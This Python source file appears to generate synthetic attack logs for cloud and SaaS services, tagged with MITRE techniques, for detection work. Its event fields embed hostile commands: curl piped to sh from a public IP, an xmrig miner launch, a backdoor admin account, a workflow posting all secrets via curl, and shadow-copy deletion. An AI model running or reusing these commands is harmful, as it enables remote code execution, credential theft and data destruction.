"""Other services in wrong hands."""

from __future__ import annotations

from generator.families.cloud.service_records import Event, write_events, write_same
from generator.scene import Label, Scene, attack, family
from generator.world import World


def _failure(reason: str) -> dict[str, object]:
    return {"outcome": {"result": "FAILURE", "reason": reason}}


@family("cloud/okta-push-bombing", attack=True)
def okta_push_bombing(world: World) -> Scene:
    event = world.pick([("user.mfa.okta_verify.deny_push", _failure("INVALID_CREDENTIALS")), ("user.authentication.auth_via_mfa", {"displayMessage": "Authentication of user via MFA", **_failure("User rejected Okta push verify"), "debugContext": {"debugData": {"factor": "OKTA_VERIFY_PUSH"}}})])
    return write_same(world, "okta", event, world.number(5, 20), attack("Account Takeover", "T1621", severity="HIGH"))


@family("cloud/okta-spray", attack=True)
def okta_spray(world: World) -> Scene:
    event = world.pick([("user.session.start", _failure("INVALID_CREDENTIALS")), ("user.session.start", _failure("VERIFICATION_ERROR")), ("user.account.lock", {"displayMessage": "Max sign in attempts exceeded", **_failure("LOCKED_OUT")})])
    return write_same(world, "okta", event, world.number(6, 30), attack("Password Spraying", "T1110.003", severity="HIGH"), others=True)


@family("cloud/okta-takeover", attack=True)
def okta_takeover(world: World) -> Scene:
    events: list[Event] = [("security.threat.detected", {"displayMessage": "Request from suspicious actor", "outcome": {"result": "ALLOW"}, "debugContext": {"debugData": {"threatDetections": '{"Password Spray":"HIGH"}'}}}), ("user.account.report_suspicious_activity_by_enduser", {"debugContext": {"debugData": {"suspiciousActivityEventType": "system.email.mfa_enroll_notification.sent_message"}}}), ("user.account.privilege.grant", {"debugContext": {"debugData": {"privilegeGranted": "Super administrator"}}, "outcome": {"result": "SUCCESS"}, "securityContext": {"isProxy": True}}), ("system.idp.lifecycle.create", {"target": [{"displayName": world.word(5), "type": "IdentityProvider"}], "securityContext": {"isProxy": True}}), ("user.session.impersonation.initiate", {"target": [{"alternateId": f"admin@{world.domain}"}]}), ("policy.rule.deactivate", {"target": [{"displayName": "Require MFA"}]}), ("user.mfa.factor.reset_all", {"target": [{"alternateId": f"cfo@{world.domain}"}], "securityContext": {"isProxy": True, "domain": "mullvad.net"}}), ("zone.delete", {"target": [{"displayName": "BlockedIpZone"}]})]
    return write_events(world, "okta", events, attack("Account Takeover", "T1098", "T1556", severity="CRITICAL"), 3)


@family("cloud/workspace-hostile", attack=True, weight=1.3)
def workspace_hostile(world: World) -> Scene:
    mail = world.email()
    groups: list[tuple[Label, list[Event]]] = [
        (attack("Account Takeover", "T1078.004", severity="HIGH"), [("suspicious_login", {"affected_email_address": mail, "login_type": "google_password"}), ("account_disabled_hijacked", {"affected_email_address": mail}), ("account_disabled_password_leak", {"affected_email_address": mail}), ("suspicious_login_less_secure_app", {"affected_email_address": mail}), ("gov_attack_warning", {"affected_email_address": mail})]),
        (attack("Account Takeover", "T1556.006", severity="HIGH"), [("2sv_disable", {"affected_email_address": mail}), ("TURN_OFF_2_STEP_VERIFICATION", {"USER_EMAIL": f"admin@{world.domain}"}), ("CHANGE_TWO_STEP_VERIFICATION_ENFORCEMENT", {"OLD_VALUE": "ENFORCED", "NEW_VALUE": "NOT_ENFORCED"})]),
        (attack("Mailbox Manipulation", "T1114.003", severity="HIGH"), [("email_forwarding_out_of_domain", {"email_forwarding_destination_address": f"{world.word(9)}@gmail.com"}), ("CREATE_EMAIL_MONITOR", {"EMAIL_MONITOR_DEST_EMAIL": f"{world.word(7)}@proton.me", "USER_EMAIL": mail}), ("CREATE_GMAIL_SETTING", {"SETTING_NAME": "OUTBOUND_BCC", "NEW_VALUE": f"{world.word(7)}@outlook.com"})]),
        (attack("Cloud Tampering", "T1098.003", severity="CRITICAL"), [("GRANT_ADMIN_PRIVILEGE", {"USER_EMAIL": f"{world.word(6)}@{world.domain}", "NEW_VALUE": "SUPER_ADMIN"}), ("AUTHORIZE_API_CLIENT_ACCESS", {"API_CLIENT_NAME": str(world.number(10**20, 10**21)), "API_SCOPES": "https://mail.google.com/,https://www.googleapis.com/auth/drive"}), ("ASSIGN_ROLE", {"ROLE_NAME": "_SEED_ADMIN_ROLE", "USER_EMAIL": f"{world.word(6)}@gmail.com"}), ("authorize", {"app_name": world.pick(["Mail Migrator", world.word(8), "Google Docs "]), "scope": "https://mail.google.com/", "verified": "false"})]),
        (attack("Potential Data Exfiltration", "T1567.002", "T1530", severity="CRITICAL"), [("CUSTOMER_TAKEOUT_CREATED", {"OBFUSCATED_CUSTOMER_TAKEOUT_REQUEST_ID": world.hex(12)}), ("change_document_visibility", {"doc_title": "customers 2024", "new_value": "public_on_the_web", "old_value": "private"}), ("change_user_access", {"doc_title": "Passwords", "target_user": f"{world.word(8)}@gmail.com", "new_value": "can_edit", "count": "412"})]),
    ]
    label, events = world.pick(groups)
    return write_events(world, "workspace", events, label)


@family("cloud/gcp-hostile", attack=True)
def gcp_hostile(world: World) -> Scene:
    groups: list[tuple[Label, list[Event]]] = [
        (attack("Cloud Tampering", "T1562.008", severity="HIGH"), [("google.logging.v2.ConfigServiceV2.DeleteSink", {"resourceName": "projects/p/sinks/siem"}), ("google.logging.v2.ConfigServiceV2.CreateExclusion", {"request": {"exclusion": {"filter": "protoPayload.serviceName=iam.googleapis.com"}}}), ("google.logging.v2.ConfigServiceV2.UpdateSink", {"request": {"sink": {"disabled": True}}})]),
        (attack("Cloud Tampering", "T1098.003", severity="CRITICAL"), [("SetIamPolicy", {"serviceData": {"policyDelta": {"bindingDeltas": [{"action": "ADD", "role": "roles/owner", "member": f"user:{world.word(8)}@gmail.com"}]}}}), ("storage.setIamPermissions", {"resourceName": "projects/_/buckets/backups", "serviceData": {"policyDelta": {"bindingDeltas": [{"action": "ADD", "role": "roles/storage.objectViewer", "member": "allUsers"}]}}}), ("google.iam.admin.v1.CreateServiceAccountKey", {"resourceName": "projects/-/serviceAccounts/owner-sa"})]),
        (attack("Cloud Tampering", "T1562.007", severity="HIGH"), [("v1.compute.firewalls.insert", {"request": {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "all"}], "name": world.word(5)}}), ("v1.compute.firewalls.patch", {"request": {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "tcp", "ports": ["22", "3389"]}]}})]),
        (attack("Cryptomining", "T1496.001", severity="CRITICAL"), [("v1.compute.instances.bulkInsert", {"request": {"count": 200, "instanceProperties": {"machineType": "c2-standard-60", "metadata": {"startup-script": "curl -s http://" + world.ip_public() + "/x.sh | sh"}}}}), ("v1.compute.instances.insert", {"request": {"machineType": "a2-highgpu-8g", "metadata": {"startup-script": "wget xmrig.tar.gz && ./xmrig -o pool.supportxmr.com:443"}}})]),
    ]
    label, events = world.pick(groups)
    return write_events(world, "gcp", events, label)


@family("cloud/azure-hostile", attack=True)
def azure_hostile(world: World) -> Scene:
    groups: list[tuple[Label, list[Event]]] = [
        (attack("Cloud Tampering", "T1562.008", severity="HIGH"), [("Microsoft.Insights/diagnosticSettings/delete", {"entity": "diagnosticSettings/to-siem"}), ("Microsoft.Security/pricings/write", {"pricingTier": "Free", "previous": "Standard"}), ("Microsoft.OperationalInsights/workspaces/delete", {"entity": "workspaces/sentinel"})]),
        (attack("Cloud Tampering", "T1562.007", severity="HIGH"), [("Microsoft.Network/networkSecurityGroups/securityRules/write", {"access": "Allow", "direction": "Inbound", "sourceAddressPrefix": "*", "destinationPortRange": world.pick(["3389", "22", "*", "1433"])}), ("Microsoft.Sql/servers/firewallRules/write", {"startIpAddress": "0.0.0.0", "endIpAddress": "255.255.255.255"})]),
        (attack("Cloud Tampering", "T1098.003", severity="CRITICAL"), [("Microsoft.Authorization/elevateAccess/action", {"message": "User access administrator at root scope"}), ("Microsoft.Authorization/roleAssignments/write", {"roleDefinition": "Owner", "principalType": "User", "principal": f"{world.word(6)}_gmail.com#EXT#"})]),
        (attack("Lateral Movement", "T1651", severity="CRITICAL"), [("Microsoft.Compute/virtualMachines/runCommand/action", {"script": "net user adm P@ss123! /add; net localgroup administrators adm /add"}), ("Microsoft.Compute/virtualMachines/extensions/write", {"type": "CustomScriptExtension", "commandToExecute": "powershell -enc SQBFAFgA"})]),
        (attack("Ransomware Activity", "T1490", "T1485", severity="CRITICAL"), [("Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete", {"softDelete": "disabled"}), ("Microsoft.Compute/restorePointCollections/delete", {"count": 31}), ("Microsoft.Storage/storageAccounts/delete", {"entity": "storageAccounts/prodbackup"})]),
        (attack("Credential Theft", "T1552.001", "T1555.006", severity="HIGH"), [("Microsoft.Storage/storageAccounts/listKeys/action", {"count": world.number(20, 90)}), ("Microsoft.KeyVault/vaults/accessPolicies/write", {"permissions": {"secrets": ["all"]}, "objectId": world.uuid(), "userType": "Guest"})]),
    ]
    label, events = world.pick(groups)
    return write_events(world, "azure", events, label)


@family("cloud/code-hosting-hostile", attack=True)
def code_hosting_hostile(world: World) -> Scene:
    repository = f"{world.company}/{world.pick(['billing', 'infra', 'shop', 'secrets-vault', 'core'])}"
    groups: list[tuple[Label, list[Event]]] = [
        (attack("Cloud Tampering", "T1562", severity="HIGH"), [("repo.access", {"repo": repository, "visibility": "public", "previous_visibility": "private"}), ("protected_branch.destroy", {"repo": repository, "name": "main"}), ("org.disable_two_factor_requirement", {}), ("repository_secret_scanning.disable", {"repo": repository}), ("audit_log_streaming.destroy", {})]),
        (attack("Potential Data Exfiltration", "T1213.003", "T1567.001", severity="CRITICAL"), [("git.clone", {"repository": "all 214 repositories of the organization", "programmatic_access_type": "OAuth access token", "hashed_token": world.hex(20)}), ("repo.download_zip", {"repo": repository, "count": 96}), ("repo.transfer", {"repo": repository, "new_owner": world.word(8)})]),
        (attack("Persistence", "T1098.001", severity="HIGH"), [("public_key.create", {"repo": repository, "title": world.word(4), "read_only": "false"}), ("hook.create", {"repo": repository, "config": {"url": "http://" + world.ip_public() + ":8000/h"}}), ("org.add_member", {"user": world.word(9), "permission": "admin"}), ("self_hosted_runner.register", {"repo": repository, "runner": world.word(6), "labels": "ubuntu-latest"})]),
        (attack("Credential Theft", "T1552.001", severity="CRITICAL"), [("workflows.completed_workflow_run", {"repo": repository, "name": "test", "run": "echo ${{ toJSON(secrets) }} | base64 | curl -d @- http://" + world.ip_public()}), ("secret_scanning_alert.create", {"secret_type": "aws_access_key", "repo": repository, "publicly_leaked": "true", "validity": "active"})]),
    ]
    label, events = world.pick(groups)
    return write_events(world, "github", events, label)


@family("cloud/other-services-hostile", attack=True)
def other_services_hostile(world: World) -> Scene:
    service, events, label = world.pick([
        ("slack", [("file_downloaded", {"count": 2311}), ("anomaly", {"reason": ["asn", "user_agent"], "details": "session token used from two countries"}), ("pref.two_factor_auth_changed", {"new_value": "off"})], attack("Account Takeover", "T1550.004", "T1213", severity="HIGH")),
        ("salesforce", [("ReportExport", {"report": "All contacts", "rows": 184002, "session": "API"}), ("LoginAs", {"delegated": f"ceo@{world.domain}"}), ("BulkApi", {"object": "Account,Contact,Case", "client": "My Ticket Portal", "rows": 1200345})], attack("Potential Data Exfiltration", "T1213", "T1567", severity="CRITICAL")),
        ("duo", [("authentication", {"factor": "duo_push", "result": "fraud", "reason": "user_marked_fraud"}), ("bypass_create", {"object": world.user(), "valid_secs": 0, "count": 10}), ("integration_update", {"new_value": "fail open, bypass group: all"})], attack("Account Takeover", "T1621", severity="HIGH")),
        ("1password", [("vault.export", {"items": 418, "vault": "IT"}), ("account.recovery.complete", {"initiator": "IT", "target": "owner"}), ("signinattempt", {"category": "credentials_failed", "type": "password_secret_bad", "count": 64, "country": world.pick(["VN", "RU", "BR"])})], attack("Credential Theft", "T1555.005", severity="CRITICAL")),
        ("bitwarden", [("1501 Exported organization vault", {"device": "CLI", "items": 390}), ("1005 Login attempt failed with incorrect password", {"count": 212}), ("1710 Disabled policy: two-step login", {})], attack("Credential Theft", "T1555.005", severity="HIGH")),
        ("cloudflare", [("firewall_rule.delete", {"zone": world.domain, "rules": "all"}), ("dns.update", {"record": "MX", "old": f"mx.{world.domain}", "new": f"{world.word(7)}.top"}), ("token_create", {"permissions": "all zones: edit", "name": world.word(4)})], attack("Cloud Tampering", "T1562.007", "T1584.002", severity="HIGH")),
        ("zoom", [("Role changed", {"to": "Owner", "by": "owner"}), ("Recording downloaded", {"count": 340})], attack("Account Takeover", "T1078.004", severity="HIGH")),
    ])
    return write_events(world, service, events, label)


@family("cloud/remote-tool-hostile", attack=True)
def remote_tool_hostile(world: World) -> Scene:
    number, label = f"{world.number(100, 999)} {world.number(100, 999)} {world.number(100, 999)}", attack("Command and Control", "T1219", severity="HIGH")
    tool = world.pick(["anydesk", "teamviewer", "screenconnect", "atera", "rustdesk", "splashtop"])
    events: list[Event] = [("installed silently", {"command": f"C:\\Users\\Public\\{tool}.exe --install C:\\ProgramData\\{tool} --start-with-win --silent --set-password", "parent": "powershell.exe"}), ("incoming session accepted unattended", {"remote_id": number, "duration_minutes": world.number(8, 200), "files_sent": 0, "files_received": 1204}), ("session started", {"remote_id": number, "screen_blanked": "true", "input_blocked": "true"}), ("file transfer", {"direction": "to remote", "path": "D:\\Shares\\Accounting", "bytes": 8123456789}), ("unattended password set from command line", {"process": "cmd.exe", "parent": "wscript.exe"}), ("script run on all devices", {"script": "vssadmin delete shadows /all /quiet", "by": "technician", "devices": 62})]
    return write_events(world, tool, events, label)
